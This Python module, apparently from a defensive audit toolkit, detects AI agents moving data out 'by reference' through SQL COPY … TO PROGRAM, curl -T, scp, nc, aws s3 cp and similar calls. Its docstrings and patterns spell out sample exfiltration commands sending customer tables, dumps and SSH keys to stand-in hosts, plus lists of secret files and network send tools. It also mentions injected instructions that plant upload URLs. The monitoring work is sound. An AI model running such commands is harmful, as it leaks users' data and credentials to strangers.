"""Transfers *by reference*: a call that names stored data and a place to put it, so the
data moves without its values ever appearing in the trace — what no taint tracker sees.

A taint tracker finds a value a tool showed inside a later call. ``COPY (SELECT email
FROM customers) TO PROGRAM 'curl -T - https://x'`` carries no value: the database reads
the table and ships it. So does ``curl -T users.csv https://x`` (the file never passes
through the agent), ``aws s3 cp s3://ours/x s3://theirs/`` and ``pg_dump | curl``. This
module reads such calls and says *what* they send (a table, a query, a path, an object)
and *where* (`Transfer`): `sinks` makes the place a destination of the call, and `taint`
judges it with the same authorisation as any other destination (the user's own place, a
place a tool showed the agent working in, a ``trusted`` one: fine), reporting one to a
stranger as a leak ``by reference``.

What counts, read by the statement or the command, not the tool's name:

- SQL (any tool's argument): ``COPY rel|(query) TO PROGRAM 'cmd'`` (the command's upload
  targets), ``COPY … TO``/``COPY INTO``/``UNLOAD … TO``/``EXPORT DATA OPTIONS(uri=…)``/
  ``INSERT OVERWRITE DIRECTORY``/``CREATE TABLE … LOCATION … AS SELECT`` to a bucket
  (the statements `code_places.in_sql` reads), ``COPY INTO @stage`` where the same text
  creates that stage on a bucket, ClickHouse ``INSERT INTO FUNCTION url|s3('…')``; only
  when the statement reads a relation (``FROM t``, ``COPY t TO``): ``COPY (SELECT 'a
  literal') TO …`` carries its values and is the taint's;
- a command line (a shell or code tool's text): `shell_transfers` (``curl -T``, ``scp``,
  ``aws s3 cp``…), `shell_senders` (``nc``, ``ssh``, ``sftp``, ``rclone``, ``az``) and
  `file_senders` (``socat``, ``lftp``, ``ftp``, ``tftp``, ``smbclient``…), with what the
  trace's earlier calls set up (`shell_state`, kept by `taint`, fed by `learn`): a file
  one call wrote and another sends (``\\copy customers TO '/tmp/c.csv'``, then ``curl -T
  /tmp/c.csv …``: as strong as the table), a remote, an ssh alias, a git remote or a
  variable one call set and another uses by name;
- Python and JavaScript: `code_transfers` (``requests.put(url, data=open(…))``,
  ``fetch(url, {body: fs.readFileSync(…)})``, boto3 ``upload_file``, pandas
  ``to_csv('s3://…')``), a URL given by a name the same code assigned.

Each reader starts behind a cheap test of its own (a statement's keyword, a command's
name with an upload option, a call's name), so code that moves nothing costs a few
searches: most code a coding agent runs reaches no reader.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Sequence
from itertools import islice
from typing import Literal, Protocol, TypeVar

from backdoorlab.defenses.audit import patterns, places
from backdoorlab.defenses.audit.code_places import in_sql, sql_storage
from backdoorlab.defenses.audit.code_transfers import in_code
from backdoorlab.defenses.audit.secret_files import public_file, secret_file
from backdoorlab.defenses.audit.shell_state import ShellState
from backdoorlab.defenses.audit.shell_transfers import Kind, Transfer, in_shell, to_url
from backdoorlab.defenses.audit.shell_transfers import learn as learn_shell

__all__ = [
    "ShellState", "Transfer", "by_destination", "learn", "may_move", "shown_uploads",
    "strength", "transfers",
]  # fmt: skip

MAX_TRANSFERS = 16
MAX_TEXT = 65536


_MAY_MOVE = ("upload_file", "put_object", "scp ", "rsync ", "rclone ", "sftp ", "/dev/tcp/")
_MAY_MOVE += ("socat ", "ftp ", "smbclient ", "ncftpput ", "telnet ", "s_client")
_MAY_SEND = re.compile(r"\b(?:nc|ncat|netcat|ssh)\s")
_MAY_SEND_WORDS = ("nc ", "ssh ", "netcat ")


def may_move(raw: str, state: ShellState | None = None) -> bool:
    """Whether a call's raw arguments that `sinks`' other cheap tests let pass (no URL,
    host, ``@`` or place word) may still move data by reference (``s3.upload_file('f',
    'b', 'k')``, ``scp f 10.0.0.9:``, ``nc 10.0.0.9 9000 < f``, ``rclone copy f r:b``,
    or a name ``state`` knows: ``curl -T f $URL``): plain substring tests, as most calls
    of a trace take this path."""
    if any(w in raw for w in _MAY_MOVE) or (state is not None and state.may_use(raw)):
        return True
    return any(w in raw for w in _MAY_SEND_WORDS) and _MAY_SEND.search(raw) is not None


def transfers(text: str, state: ShellState | None = None) -> list[Transfer]:
    """Every transfer by reference in one argument's text (SQL, a command line, code);
    ``state``: what the trace's earlier calls set up (`shell_state`)."""
    text = text[:MAX_TEXT]
    code = in_code(text)  # each reader behind its own test
    if code and state is not None and state.files:  # a file a call wrote (`shell_state`)
        code = [state.traced(t) for t in code]
    found = in_sql_text(text) + in_shell(text, state=state) + code
    # a public key or a configuration's example moves nothing anyone may not have, unless
    # a call of the trace wrote it (``cp ~/.ssh/id_rsa /tmp/k.pub``: its origin's)
    return [t for t in found if t.origin is not None or not public_file(t.what)][:MAX_TRANSFERS]


_COPY_AT = re.compile(r"(?<!\\)\bCOPY\s", re.IGNORECASE)
_SQL_TO_FILE = re.compile(
    r"COPY\s+(\([\s\S]{1,4000}?\)|[\w.\"`]+)\s+TO\s+'([^':]{1,400})'", re.IGNORECASE
)
"""``COPY rel TO '/local/path'``: a server-side file, that a later command may send
(psql's ``\\copy``, a client-side file, is `shell_state`'s to read)."""


def learn(text: str, state: ShellState, runs_code: bool) -> None:
    """Record in ``state`` what one argument's text sets up for later calls
    (`shell_state`): a command line's files, variables and remotes (``runs_code``: a
    shell or code tool's text), a file SQL writes (``COPY customers TO '/tmp/c.csv'``)."""
    text = text[:MAX_TEXT]
    if runs_code:
        learn_shell(text, state)
    if "copy" not in text.lower():
        return
    for at in islice(_COPY_AT.finditer(text), MAX_TRANSFERS):
        m = _SQL_TO_FILE.match(text, at.start())
        if m and _relation(m.group(0)):
            state.wrote(m.group(2), m.group(1)[:200], "COPY … TO")


# --- SQL ------------------------------------------------------------------------------

_SQL_SPLIT = re.compile(r"""'(?:[^']|'')*'|"[^"]*"|(;)""")
_COPY_REL = re.compile(r"\bCOPY\s+(\([\s\S]{1,4000}?\)|[\w.\"`]+)\s+TO\b", re.IGNORECASE)
_UNLOAD = re.compile(r"\bUNLOAD\s*\(\s*'((?:[^']|'')*)'\s*\)", re.IGNORECASE)
_FROM = re.compile(r"\bFROM\s+([\w.\"`]+)", re.IGNORECASE)
_PROGRAM = re.compile(r"\bTO\s+PROGRAM\s+'((?:[^']|'')*)'", re.IGNORECASE)
_FUNCTION = re.compile(r"\bINTO\s+FUNCTION\s+\w+\s*\(\s*'([^']{1,400})'", re.IGNORECASE)
_STAGE_USE = re.compile(r"\bCOPY\s+INTO\s+@([\w.]+)", re.IGNORECASE)
_STAGE_MADE = r"\bCREATE\s+(?:OR\s+REPLACE\s+)?(?:\w+\s+)?STAGE\s+{}\b[^;]*?\bURL\s*=\s*'([^']+)'"


_SQL_MOVES = re.compile(
    r"\b(?:COPY|UNLOAD|EXPORT\s+DATA|INTO\s+FUNCTION|DIRECTORY|LOCATION)\b", re.IGNORECASE
)
"""A statement that may move a relation somewhere (`in_sql_text`'s cheap test)."""
_SQL_WORDS = ("copy", "unload", "export", "function", "directory", "location")


def _statements(text: str) -> list[str]:
    """``text`` cut at each ``;`` outside a string literal."""
    out, start = [], 0
    for m in _SQL_SPLIT.finditer(text):
        if m.group(1):
            out.append(text[start : m.start()])
            start = m.end()
    out.append(text[start:])
    return [s for s in out if s.strip()]


def _copy_rel(statement: str) -> re.Match[str] | None:
    """`_COPY_REL` tried where a statement's first ``COPY`` words are: searched for, the
    lazy query it holds was tried at each of a hostile text's ``COPY (`` (seconds)."""
    for at in islice(_COPY_WORD.finditer(statement), 4):
        if m := _COPY_REL.match(statement, at.start()):
            return m
    return None


_COPY_WORD = re.compile(r"\bCOPY\s", re.IGNORECASE)


def _relation(statement: str) -> str:
    """What a statement sends: the relation or query it reads; ``""`` when it reads none
    (``COPY (SELECT 'a literal') TO …`` carries its values in the trace)."""
    copy = _copy_rel(statement)
    if copy and not copy.group(1).startswith("("):
        return copy.group(1)
    unload = _UNLOAD.search(statement)
    query = unload.group(1).replace("''", "'") if unload else statement
    rel = _FROM.search(query)
    if rel is None:
        return ""
    if copy:
        return copy.group(1)[:200]
    if unload:
        return f"({query[:200]})"
    return rel.group(1)


_VERB = re.compile(r"\s*(\w+)(?:\s+(INTO|DATA|OVERWRITE)\b)?", re.IGNORECASE)


def _verb(statement: str) -> str:
    """How a statement moves data, as reports say it (``COPY … TO``, ``EXPORT DATA``)."""
    m = _VERB.match(statement)
    if m is None:
        return "SQL"
    verb = " ".join(w.upper() for w in m.groups() if w)
    return f"{verb} … TO" if verb in ("COPY", "UNLOAD") else verb


def in_sql_text(text: str) -> list[Transfer]:
    """The SQL transfers of a text (module docstring)."""
    low = text.lower()  # substring tests first: the expression is slow on long code
    if not any(word in low for word in _SQL_WORDS) or not _SQL_MOVES.search(text):
        return []
    found: list[Transfer] = []
    for statement in _statements(text):
        what = _relation(statement)
        if not what:
            continue
        head = _verb(statement)
        program = _PROGRAM.search(statement)
        if program:
            cmd = program.group(1).replace("''", "'")
            found += in_shell(cmd, stdin=what, how=f"{head} PROGRAM")
            continue
        for p in in_sql(statement):
            found.append(Transfer(what, p.value, p.canonical, "bucket", head))
        for m in _FUNCTION.finditer(statement):
            found += to_url(what, m.group(1), head)
        for m in _STAGE_USE.finditer(statement):
            made = re.search(_STAGE_MADE.format(re.escape(m.group(1))), text, re.IGNORECASE)
            storage = sql_storage(made.group(1)) if made else None
            if storage is not None:
                found.append(Transfer(what, storage.value, storage.canonical, "bucket", head))
    return found


# --- how much it says, and upload addresses tools gave ----------------------------------

_SECRET_FILE = re.compile(
    r"\.env\b|id_[rd]sa|\.pem\b|\.key\b|credentials|\.npmrc|\.pgpass|passwd|shadow|kubeconfig"
    r"|\.sql\b|\.dump\b|\.bak\b|\.db\b|\.sqlite|^(?:printenv|env)$",
    re.IGNORECASE,
)
_DUMPERS = re.compile(r"^(?:pg_dump|pg_dumpall|mysqldump|mongodump|sqlite3|psql|mysql)\b")


def strength(transfer: Transfer) -> Literal["strong", "medium"]:
    """How bad a stranger receiving ``transfer`` is, unseen: ``strong`` for a table or a
    query's rows, a database dump, a secrets or database file; ``medium`` for any other
    file or object (whose content the trace never showed). A file an earlier call wrote
    is as strong as what it wrote there (``\\copy customers TO 'f'``: a table)."""
    origin = transfer.origin
    if origin is not None and origin.what:
        held = Transfer(origin.what, "", "", transfer.kind, origin.how)
        if strength(held) == "strong":
            return "strong"
    what = transfer.what
    if transfer.how.split(" ", 1)[0].upper() in _SQL_HEADS or _DUMPERS.match(what):
        return "strong"
    if public_file(what):  # a copy a call wrote to a public name: as any file
        return "medium"
    return "strong" if _SECRET_FILE.search(what) or secret_file(what) else "medium"


_SQL_HEADS = frozenset(("COPY", "UNLOAD", "EXPORT", "INSERT", "CREATE"))
_UPLOAD_KEYS = frozenset(("upload", "presigned", "signed", "put", "sas", "write", "target"))
_URL_KEYS = frozenset(("url", "uri", "href", "link", "endpoint"))


def shown_uploads(text: str) -> set[str]:
    """URLs (without their query) a structured tool result gave as where to upload — a
    field named for it (``upload_url``, ``presignedUrl``, ``signed_uri``): an API's answer
    for the user's own job, as `places.places_shown` reads a job's bucket; never a URL in
    prose, where an injected instruction writes its own."""
    head = text.lstrip()[:1]
    if head not in ("{", "[") or not re.search(r"upload|signed|put|sas|write|target", text, re.I):
        return set()
    try:
        data = json.loads(text)
    except (ValueError, RecursionError):  # not JSON, a 4,300-digit number, too deep
        return set()
    found: set[str] = set()
    for key, value in places.string_fields(data, longest=None):
        if "://" in value:
            words = set(patterns.name_tokens(key))
            if words & _UPLOAD_KEYS and words & _URL_KEYS:
                found.add(value.split("?", 1)[0])
    return found


class _Named(Protocol):
    @property
    def canonical(self) -> str: ...


D = TypeVar("D", bound=_Named)


def by_destination(
    moved: Sequence[tuple[str, Transfer]],
    dests: list[D],
    make: Callable[[str, str, str, Kind], D],
) -> dict[str, list[Transfer]]:
    """The transfers of a call (with the argument each was read in) by the destination
    each goes to: one of ``dests`` (a bucket by its own name, whatever service a reading
    says), or one ``make(argument, target, canonical, kind)`` builds and ``dests`` gains
    (``scp``'s host, ``url('…')``)."""
    out: dict[str, list[Transfer]] = {}
    for path, transfer in moved:
        loose = places.loose(transfer.canonical)
        dest = next((d for d in dests if places.loose(d.canonical) == loose), None)
        if dest is None:
            dest = make(path, transfer.target, transfer.canonical, transfer.kind)
            dests.append(dest)
        out.setdefault(dest.canonical, []).append(transfer)
    return out
